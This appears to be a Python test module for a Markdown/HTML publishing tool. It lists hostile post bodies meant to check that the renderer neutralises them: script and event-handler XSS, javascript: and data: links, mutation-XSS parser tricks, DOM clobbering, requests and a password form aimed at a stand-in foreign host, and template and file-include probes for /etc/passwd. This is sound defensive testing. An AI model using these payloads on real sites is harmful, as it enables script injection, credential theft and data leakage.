"""Attempts in the body of a post: HTML, Markdown, and the syntax of other programs."""

# ruff: noqa: E501 - a payload is not broken up
from __future__ import annotations

from collections.abc import Iterator

from tests.hostile.case import RUN, STRANGER, Case, table

#: What stands behind every attempt. It has to survive.
AFTER = "\n\nA calm paragraph behind the attempt.\n"
SHOWS = ("A calm paragraph behind the attempt.",)


def cases() -> Iterator[Case]:
    yield from table("html-scripts", "warned", SCRIPTS, says=("active",), tail=AFTER)
    yield from table("html-handlers", "warned", HANDLERS, says=("active",), tail=AFTER, shows=SHOWS)
    yield from table("html-addresses", "warned", ADDRESSES, says=("active",), tail=AFTER)
    yield from table("html-elements", "warned", ELEMENTS, says=("active",), tail=AFTER)
    yield from table("html-frames", "any", FRAMES, tail=AFTER, shows=SHOWS)
    yield from table("html-styles", "any", STYLES, tail=AFTER, shows=SHOWS)
    yield from table("html-clobbering", "any", CLOBBERING, tail=AFTER, shows=SHOWS)
    yield from table("html-mutation", "any", MUTATION, tail=AFTER)
    yield from table("html-requests", "any", REQUESTS, tail=AFTER, shows=SHOWS)
    yield from table("markdown-links", "any", LINKS, tail=AFTER, shows=SHOWS)
    yield from table("markdown-attributes", "any", ATTRIBUTES, tail=AFTER, shows=SHOWS)
    yield from table("markdown-references", "any", REFERENCES, tail=AFTER, shows=SHOWS)
    yield from table("without-end", "warned", OPEN, says=("is not closed",), head="Words.\n\n")
    yield from table("elements-without-end", "warned", RAW, says=("is not closed",), suffix=".html")
    yield from table(
        "missing-images", "warned", GONE, says=("was not found among the seeds",), tail=AFTER
    )
    yield from table("lost-notes", "warned", LOST_NOTES, says=("has no footnote",), tail=AFTER)
    yield from table("same-notes", "warned", NOTES, says=("two footnotes",), tail=AFTER)
    yield from table("other-syntax", "any", OTHER, tail=AFTER, shows=SHOWS)
    yield from table("double-encoding", "any", ENCODED, tail=AFTER, shows=SHOWS)
    yield from table("formulas", "any", FORMULAS, tail=AFTER, shows=SHOWS)
    yield from table("saved-pages", "any", PAGES, suffix=".html")


OPEN = {
    "comment": "<!-- hidden for ever\n\nMore words.\n",
    "comment-in-a-line": "Calm words <!-- hidden\n\nMore words.\n",
    "code": "```python\nx = 1\n\nMore words.\n",
    "code-of-tildes": "~~~~\nx = 1\n~~~\n\nMore words.\n",
}
RAW = {
    name: f"<html><body><p>Calm words.</p>\n<{tag}hidden<p>More words.</p></body></html>"
    for name, tag in {
        **{
            name: f"{name}>"
            for name in "title textarea script style xmp iframe noembed noframes".split()
        },
        "comment": "!-- ",
    }.items()
}
GONE = {
    "on-its-own": "![A newt](images/newt.png)",
    "in-a-line": "A newt ![newt](newt.png) here.",
    "in-html": '<p><img src="newt.png" alt="A newt"></p>',
    "of-a-disk": "![A newt](file:///home/ada/newt.png)",
    "outside": "![A newt](../../../../newt.png)",
}
LOST_NOTES = {
    "alone": "A[^1].",
    "beside-another": "A[^1] and b[^2].\n\n[^2]: Two.",
}
NOTES = {
    "next-to-each-other": "A[^1] and b[^1]\n\n[^1]: One.\n\n[^1]: Two.",
    "apart": "A[^x].\n\n[^x]: One.\n\nB[^x].\n\n[^x]: Two.",
}
SCRIPTS = {
    "plain": f"Words.\n\n<script>{RUN}</script>",
    "in-a-line": f"Words <script>{RUN}</script> and more.",
    "case": f"Words <ScRiPt>{RUN}</sCrIpT >",
    "slash": f"Words <script/x>{RUN}</script>",
    "newline": f"Words <script\n>{RUN}</script\n>",
    "from-elsewhere": f"Words <script src=//{STRANGER}/x.js></script>",
    "module": f"Words <script type=module>{RUN}</script>",
    "import-map": f'Words <script type="importmap">{{"imports":{{"a":"//{STRANGER}"}}}}</script>',
    "nested": f"Words <scr<script>ipt>{RUN}</scr</script>ipt>",
    "split-by-comment": f"Words <script><!--\n{RUN}\n//--></script>",
    "in-a-list": f"Words\n\n- one\n- <script>{RUN}</script>\n",
    "in-a-table": f"Words\n\n| a | b |\n|---|---|\n| <script>{RUN}</script> | c |\n",
    "in-a-quotation": f"Words\n\n> <script>{RUN}</script>\n",
    "in-a-heading": f"Words\n\n## A heading <script>{RUN}</script>\n\nMore",
    "in-a-footnote": f"Words[^1]\n\n[^1]: A note <script>{RUN}</script>",
    "in-link-words": f"Words [a <script>{RUN}</script>](https://example.org/)",
}
HANDLERS = {
    "image-error": f"Words <img src=x onerror={RUN}>",
    "image-error-quoted": f'Words <img src="x" onerror="{RUN}">',
    "image-slash": f"Words <img/src=x/onerror={RUN}>",
    "image-newlines": f"Words <img src=x\nonerror\n=\n{RUN}>",
    "image-case": f"Words <IMG SRC=x OnErRoR={RUN}>",
    "body-load": f"Words <body onload={RUN}>more",
    "link-hover": f'Words <a href="https://example.org" onmouseover="{RUN}">here</a>',
    "link-focus": f'Words <a href="#x" autofocus tabindex=1 onfocus="{RUN}">here</a>',
    "details-toggle": f"Words <details open ontoggle={RUN}><summary>s</summary>d</details>",
    "animation": f'Words <p style="animation:x" onanimationstart="{RUN}">animated</p>',
    "pointer": f"Words <b onpointerenter={RUN}>bold</b>",
    "in-a-definition-list": f"Words\n: <i onclick={RUN}>one</i>",
    "duplicated-attribute": f'Words <a href="#" href="#" onclick={RUN}>twice</a>',
    "markdown-in-html": f'<div markdown="1" onclick="{RUN}">\n\n*Words*\n\n</div>',
}
ADDRESSES = {
    "javascript": f'Words <a href="javascript:{RUN}">here</a>',
    "case": f'Words <a href="JaVaScRiPt:{RUN}">here</a>',
    "reference-inside": f'Words <a href="java&#115;cript:{RUN}">here</a>',
    "reference-long": f'Words <a href="&#0000106avascript:{RUN}">here</a>',
    "newline-reference": f'Words <a href="java&NewLine;script:{RUN}">here</a>',
    "colon-reference": f'Words <a href="javascript&colon;{RUN}">here</a>',
    "control-before": f'Words <a href="&#1;javascript:{RUN}">here</a>',
    "vbscript": 'Words <a href="vbscript:msgbox(1)">here</a>',
    "data": f'Words <a href="data:text/html,<script>{RUN}</script>">here</a>',
    "data-base64": 'Words <a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">here</a>',
    "image-source": f'Words <img src="javascript:{RUN}" alt="an image">',
    "cite": f'<blockquote cite="javascript:{RUN}">Words</blockquote>',
}
ELEMENTS = {
    "form": f"Words <form action=//{STRANGER}/><input name=password><button>Log in</button></form>",
    "form-action": f"Words <button formaction=javascript:{RUN}>press</button>",
    "meta-refresh": f'Words <meta http-equiv=refresh content="0;url=//{STRANGER}/">',
    "meta-refresh-script": f'Words <meta http-equiv=refresh content="0;url=javascript:{RUN}">',
    "base": f"Words <base href=//{STRANGER}/>",
    "link-style": f"Words <link rel=stylesheet href=//{STRANGER}/x.css>",
    "link-preload": f"Words <link rel=preload as=script href=//{STRANGER}/x.js>",
    "object": f"Words <object data=//{STRANGER}/x.swf type=application/x-shockwave-flash></object>",
    "embed": f"Words <embed src=//{STRANGER}/x.swf>",
    "applet": "Words <applet code=x.class></applet>",
    "textarea": f"Words <textarea autofocus onfocus={RUN}>x</textarea>",
    "svg-script": f"Words <svg><script>{RUN}</script></svg>",
    "svg-load": f"Words <svg onload={RUN}><circle r=1></svg>",
    "svg-animate": f"Words <svg><a><animate attributeName=href to=javascript:{RUN} /></a></svg>",
    "svg-use": "Words <svg><use href=\"data:image/svg+xml,<svg id='x'></svg>#x\"></use></svg>",
    "marquee": f"Words <marquee onstart={RUN}>moving</marquee>",
    "dialog": f"Words <dialog open><form method=dialog><button onclick={RUN}>OK</button></form></dialog>",
    "isindex": f"Words <isindex type=image src=1 onerror={RUN}>",
    "portal": f"Words <portal src=//{STRANGER} onload={RUN}></portal>",
}
FRAMES = {
    "foreign": f"Words <iframe src=https://{STRANGER}/></iframe>",
    "source-document": f'Words <iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "javascript": f'Words <iframe src="javascript:parent.{RUN}"></iframe>',
    "data": f'Words <iframe src="data:text/html,<script>parent.{RUN}</script>"></iframe>',
    "like-a-video": f'Words <iframe src="https://www.youtube.com.{STRANGER}/embed/abcdefghijk"></iframe>',
    "user-in-address": f'Words <iframe src="https://www.youtube.com@{STRANGER}/embed/abcdefghijk"></iframe>',
    "video-with-handler": (
        f'<iframe src="https://www.youtube.com/embed/abcdefghijk?&quot; onload=&quot;{RUN}" '
        f'title="&quot;><script>{RUN}</script>"></iframe>'
    ),
    "player": f"Words <video src=//{STRANGER}/x.mp4 autoplay poster=//{STRANGER}/x.png></video>",
    "sound": f"Words <audio src=//{STRANGER}/x.mp3 autoplay></audio>",
}
STYLES = {
    "element": f"Words <style>body{{background:url(//{STRANGER}/x)}}</style>",
    "attribute": f'<p style="background:url(//{STRANGER}/x)">Words</p>',
    "overlay": '<div style="position:fixed;inset:0;z-index:9999;background:red">Words</div>',
    "align-and-more": f'<table><tr><td style="text-align: left; background:url(//{STRANGER}/x)">a</td></tr></table>',
    "align-then-newline": f'<table><tr><td style="text-align: left\n;background:url(//{STRANGER}/x)">a</td></tr></table>',
    "expression": f'<p style="width:expression({RUN})">Words</p>',
    "classes": '<div class="md-overlay md-dialog cp-provenance md-search__overlay">Words</div>',
    "font-colour": '<font color="white" size="99">Words</font>',
    "background": f"<table background=//{STRANGER}/x><tr><td>Words</td></tr></table>",
}
CLOBBERING = {
    "config": '<a id="__config">Words</a>',
    "config-by-list": "A paragraph\n{: #__config}",
    "config-heading": "## __config\n\nWords",
    "config-heading-id": "## Heading {#__config}\n\nWords",
    "drawer": '<p id="__drawer">Words</p><p id="__search">Words</p>',
    "commonplace": "## Commonplace\n\nWords\n\n## Document\n\nWords\n\n## Location\n\nWords",
    "names": '<img name="getElementById" src=x><a name="body">Words</a>',
    "form-name": '<form id="commonplace"><input name="search"></form>Words',
    "own-ids": '<p id="_title">Words</p><p id="_provenance">Words</p>',
    "data-attributes": f'<div data-md-component="dialog" data-cp-file="//{STRANGER}/x.js">Words</div>',
    "video-attribute": f'<figure class="cp-video" data-video="youtube:x&quot; onload=&quot;{RUN}">Words</figure>',
    "video-address": f'<figure class="cp-video" data-video="https://{STRANGER}/">Words</figure>',
}
MUTATION = {
    "noscript": f'Words <noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "math-style": f'Words <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "svg-style": f'Words <svg><style><a id="</style><img src=1 onerror={RUN}>">',
    "svg-p-style": f'Words <svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "math-annotation": f'Words <math><annotation-xml encoding="text/html"><script>{RUN}</script></annotation-xml></math>',
    "template": f"Words <template><img src=x onerror={RUN}></template>",
    "nested-template": f"Words <template><template></template><script>{RUN}</script></template>",
    "textarea-title": f"Words <textarea><title></textarea><img src=x onerror={RUN}></title>",
    "xmp": f'Words <xmp><p title="</xmp><img src=x onerror={RUN}>">',
    "noembed": f'Words <noembed><img title="</noembed><img src onerror={RUN}>"></noembed>',
    "plaintext": f"Words <plaintext><img src=x onerror={RUN}>",
    "select": f"Words <select><style></select><img src=x onerror={RUN}></style></select>",
    "comment-ends-early": f"Words <!--><img src=x onerror={RUN}>-->",
    "comment-dashes": f"Words <!-- --!><img src=x onerror={RUN}> -->",
    "comment-in-title": f'Words <a title="<!--" href=#>a</a><img src=x onerror={RUN}> -->',
    "cdata": f"Words <svg><![CDATA[<img src=x onerror={RUN}>]]></svg>",
    "doctype": f"Words <!DOCTYPE html [<!ENTITY x '<script>{RUN}</script>'>]>&x;",
    "processing": f"Words <?xml-stylesheet href='javascript:{RUN}'?>",
    "php": f"Words <?php echo '<script>{RUN}</script>' ?>",
    "unclosed-tag": f"Words <img src=x onerror={RUN}",
    "unclosed-quote": f'Words <a title="x onmouseover={RUN} href=https://example.org>x</a>',
    "form-in-form": f"Words <form id=a><div></form><form id=b><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "code-and-tag": f"Words `<script>` and <b title='`'><img src=x onerror={RUN}>`",
    "half-tag-over-lines": f"Words <img title='\n\n' src=x onerror={RUN}>",
    "private-marks": "Words \ue0000\ue001 and \ue000999\ue001 <b \ue0000\ue001>x</b>",
    "stash-marks": "Words \x02wzxhzdk:0\x03 and \x02amp\x03 and wzxhzdk:0",
    "backtick-attribute": f'Words <img src=`x` alt=`"onerror={RUN}`>',
}
#: Addresses of another host that do not look like it.
STRANGE = {
    "mixed": f"/\\{STRANGER}/a.png",
    "two-backslashes": f"\\\\{STRANGER}/a.png",
    "three": f"///{STRANGER}/a.png",
    "control-in-front": f"&#1;//{STRANGER}/a.png",
    "spaces-in-front": f" &#32;/\\{STRANGER}/a.png",
    "tab-between": f"/&#9;/{STRANGER}/a.png",
    "newline-between": f"/&NewLine;\\{STRANGER}/a.png",
    "scheme-backslashes": f"http:\\\\{STRANGER}/a.png",
    "scheme-alone": f"https:{STRANGER}/a.png",
    "scheme-single-slash": f"https:/{STRANGER}/a.png",
    "scheme-newline": f"ht&#10;tps://{STRANGER}/a.png",
    "scheme-case": f"HTTPS:\\/{STRANGER}/a.png",
    "escaped-by-reference": f"&sol;&bsol;{STRANGER}/a.png",
    "other-scheme": f"ftp:\\\\{STRANGER}/a.png",
}
REQUESTS = {
    "image": f"Words ![a](https://{STRANGER}/x.png)",
    "image-no-scheme": f"Words ![a](//{STRANGER}/x.png)",
    "image-backslashes": f"Words <img src='\\\\{STRANGER}/x.png' alt=a>",
    "image-mixed-slashes": f"Words <img src='/\\{STRANGER}/x.png' alt=a>",
    "image-tab": f"Words <img src='/\t/{STRANGER}/x.png' alt=a>",
    "image-scheme-tab": f"Words <img src='ht\ntps://{STRANGER}/x.png' alt=a>",
    "image-one-slash": f"Words <img src='https:{STRANGER}/x.png' alt=a>",
    **{
        f"image-element-{name}": f'Words <image src="{address}" alt="a">'
        for name, address in STRANGE.items()
    },
    **{f"image-{name}": f'Words <img src="{a}" alt="a">' for name, a in STRANGE.items()},
    **{f"image-angled-{name}": f"Words ![a](<{a}>)" for name, a in STRANGE.items()},
    "image-set": f"Words <img srcset='//{STRANGER}/x.png 1x' alt=a>",
    "picture": f"Words <picture><source srcset=//{STRANGER}/x.png><img alt=a></picture>",
    "image-data": "Words <img src='data:image/svg+xml,<svg onload=1>' alt=a>",
    "ping": f"Words <a href='https://example.org/' ping='//{STRANGER}/'>here</a>",
    "prefetch": f"Words <a href='//{STRANGER}/' rel='prefetch dns-prefetch'>here</a>",
    "input-image": f"Words <input type=image src=//{STRANGER}/x.png>",
    "body-background": f"Words <body background=//{STRANGER}/x.png>",
}
LINKS = {
    "html-with-tab": f'Words <a href="java\tscript:{RUN}">here</a>',
    "javascript": f"Words [here](javascript:{RUN})",
    "javascript-pointy": f"Words [here](<javascript:{RUN}>)",
    "javascript-case": f"Words [here](JAVASCRIPT:{RUN})",
    "javascript-entities": f"Words [here](&#106;avascript&#58;{RUN})",
    "javascript-automatic": f"Words <javascript:{RUN}>",
    "javascript-reference": f"Words [here][x]\n\n[x]: javascript:{RUN}",
    "javascript-escaped": f"Words [here](java\\script:{RUN})",
    "data": f"Words [here](data:text/html,<script>{RUN}</script>)",
    "image-javascript": f"Words ![here](javascript:{RUN})",
    "title-quotes": f"Words [here](https://example.org '\" onmouseover=\"{RUN}')",
    "address-quotes": f'Words [here](https://example.org/"onmouseover="{RUN})',
    "image-alt": f'Words ![" onerror="{RUN}](x.png)',
    "up": "Words [up](../../../../etc/passwd) and ![up](../../../../etc/passwd.png)",
    "absolute": "Words [root](/etc/passwd) and [file](file:///etc/passwd)",
    "own-pages": "Words [data](../../data/records/posts/x.zip) and [index](../index.md)",
    "bad-host": "Words [here](http://[::1) and [there](http://[v1.x]:99999999/) and <http://%>",
    "bad-port": "Words [here](https://example.org:99999999999/) [b](https://example.org:x/)",
    "endless": f"Words [here](https://example.org/{'a' * 50_000})",
}
ATTRIBUTES = {
    "click": f"A paragraph\n{{: onclick={RUN}}}",
    "click-attr-list": f"A *word*{{: onclick={RUN}}} and **more**{{onclick={RUN}}}",
    "heading": f"## A heading {{: onclick={RUN} #x}}\n\nWords",
    "heading-id": "## A heading {#search}\n\n## Another {#search}\n\nWords",
    "image": f"![a](x.png){{: onerror={RUN} }}",
    "link": f"[a](https://example.org){{: href=javascript:{RUN} }}",
    "span-pandoc": f"[words]{{onclick={RUN} .md-overlay}}",
    "div-pandoc": f"::: {{onclick={RUN} #__config}}\nWords\n:::",
    "definition-kramdown": f"{{:x: onclick={RUN}}}\n\nWords\n{{:x}}",
    "options-kramdown": '{::options parse_block_html="true" /}\n\nWords',
    "style": "Words\n{: style='position:fixed;inset:0'}",
}
REFERENCES = {
    "quiet": f"[good]: javascript:{RUN}\n[the tide]: https://{STRANGER}/\n[1]: https://{STRANGER}/\n\nWords",
    "common-words": f"[tide]: https://{STRANGER}/\n[Home]: https://{STRANGER}/\n\nWords [tide]",
    "footnote": f"[^1]: Another's note <b onclick={RUN}>x</b>\n\nWords[^1] and [^2]",
    "footnote-label": f'Words[^"onclick={RUN}]\n\n[^"onclick={RUN}]: A note',
    "footnote-config": "Words[^__config]\n\n[^__config]: A note",
    "abbreviation": f'*[tide]: "><script>{RUN}</script>\n\nWords of the tide',
}
OTHER = {
    "unknown-element": f"Words <x onclick={RUN}>odd</x>",
    "jinja": "Words {{ 7*7 }} {{ config.__class__.__mro__ }} {% for x in range(9) %}x{% endfor %}",
    "jinja-include": "Words {% include '/etc/passwd' %} {% raw %}{{ x }}{% endraw %}",
    "jinja-comment": "Words {# a comment #} and {{ self.__init__.__globals__ }}",
    "liquid": "Words {{ site.github }} {% include x.html %}",
    "shortcode": 'Words {{< figure src="/etc/passwd" >}} {{% x %}}',
    "snippet": 'Words\n\n--8<-- "/etc/passwd"\n\n--8<--\n/etc/passwd\n--8<--',
    "snippet-scissors": "Words\n\n;--8<-- 'mkdocs.yml'",
    "contents": "Words\n\n[TOC]\n\n[[_TOC_]]\n\n{:toc}",
    "admonition": '!!! danger "<script>"\n    Words in it',
    "details": '??? note\n    Words\n\n???+ tip "x"\n    Words',
    "tabs": '=== "One"\n    Words\n\n=== "Two"\n    Words',
    "autodoc": "::: commonplace.cli\n    options:\n      show_source: true\n\nWords",
    "emoji": "Words :smile: :material-alert: :fontawesome-brands-x: :octicons-x:",
    "mermaid": f'```mermaid\ngraph LR\n  A["<img src=x onerror={RUN}>"] --> B\n  click A "javascript:{RUN}"\n```\n\nWords',
    "superfence": f'```python title="<script>{RUN}</script>" linenums="1" hl_lines="1-99999"\nx\n```',
    "fence-class": f"``` {{ .python onclick={RUN} #__config }}\nx\n```",
    "highlight-inline": "Words `#!python print(1)` and `:::python x`",
    "critic": "Words {++added++} {--gone--} {>>note<<} {~~a~>b~~}",
    "keys": "Words ++ctrl+alt+del++ and ^^up^^ and ==mark==",
    "smart-symbols": "Words (c) (tm) --> <-- +/-",
    "task-list": "- [x] done\n- [ ] open\n\nWords",
    "magic-link": "Words https://example.org @user #1 user/repo#1 abc@example.org",
    "obsidian": "Words ![[/etc/passwd]] and [[index]] and [[good|x]]",
    "directive": "```{include} /etc/passwd\n```\n\nWords\n\n.. include:: /etc/passwd",
    "org": "Words\n\n#+INCLUDE: /etc/passwd",
}
ENCODED = {
    "once": f"Words &lt;script&gt;{RUN}&lt;/script&gt;",
    "twice": f"Words &amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    "numeric": f"Words &#60;script&#62;{RUN}&#60;/script&#62;",
    "hexadecimal": f"Words &#x3c;img src=x onerror={RUN}&#x3e;",
    "no-semicolon": f"Words &ltscript&gt{RUN}&lt/script&gt",
    "in-code": f"# `</title><script>{RUN}</script>`\n\nWords `</code><script>{RUN}</script>`",
    "in-heading": f"Words\n\n## `</h2><script>{RUN}</script>`\n\nMore words",
    "in-fence": f"Words\n\n```html\n</code></pre><script>{RUN}</script>\n```",
    "in-alt": f"Words ![&quot;><script>{RUN}</script>](x.png)",
    "fullwidth": f"Words \uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "percent": f"Words [a](%6aavascript:{RUN}) %3Cscript%3E",
    "utf-7": "Words +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong": b"Words \xc0\xbcscript\xc0\xbe and more\n\nA calm paragraph behind the attempt.\n",
    "zero-width-tag": f"Words <scr\u200bipt>{RUN}</scr\u200bipt>",
    "control-in-tag": f"Words <scr\x01ipt>{RUN}</scr\x01ipt>",
}
FORMULAS = {
    "href": f"Words $$\\href{{javascript:{RUN}}}{{x}}$$",
    "html": f"Words \\(\\htmlData{{onclick={RUN}}}{{x}}\\) $\\text{{<script>{RUN}</script>}}$",
    "class": "Words $$\\class{md-overlay}{x} \\cssId{__config}{y} \\style{position:fixed}{z}$$",
    "input": "Words $$\\input{/etc/passwd} \\write18{id} \\def\\x{\\x\\x}\\x$$",
    "math-tags": f"Words $$</math><script>{RUN}</script>$$",
    "nested": f"Words $${'{' * 3000}x{'}' * 3000}$$",
    "unclosed": "Words $$\\frac{1}{\\sqrt{ and $x and \\( and \\begin{matrix}",
    "many": "Words " + "$x_1$ " * 500,
}
_PAGE = "<!doctype html><html><head><title>A saved page</title></head><body><article>{}<p>A calm paragraph of a saved page, which is long enough to be read as one.</p></article></body></html>"
PAGES = {
    name: _PAGE.format(text)
    for name, text in {
        "script": f"<p>One</p><script>{RUN}</script>",
        "handler": f"<p onclick={RUN}>One</p><img src=x onerror={RUN}>",
        "address": f"<p><a href='javascript:{RUN}'>One</a> <a href='data:text/html,x'>Two</a></p>",
        "frame": f"<iframe src=//{STRANGER}/></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe>",
        "mutation": f"<svg><style><a title='</style><img src=x onerror={RUN}>'></svg><p>One</p>",
        "markdown-inside": f"<p>[here](javascript:{RUN}) **bold** `code` {{: onclick={RUN}}}</p>",
        "markdown-escaped": f"<p>&lt;script&gt;{RUN}&lt;/script&gt; &lt;img src=x onerror={RUN}&gt;</p>",
        "code": f"<pre><code>&lt;/code&gt;```\n&lt;script&gt;{RUN}&lt;/script&gt;\n```</code></pre>",
        "title": f"<h1>&lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt;</h1>",
        "meta": f"<meta property='og:title' content='\"><script>{RUN}</script>'><p>One</p>",
        "heading": f"<h2 id=__config>&lt;img src=x onerror={RUN}&gt;</h2><p>One</p>",
        "link-words": f"<p><a href='https://example.org/)[x](javascript:{RUN}'>a](javascript:{RUN}) b</a></p>",
        "alt": f"<p><img src='a.png' alt='](x)<script>{RUN}</script>![a'></p>",
    }.items()
}
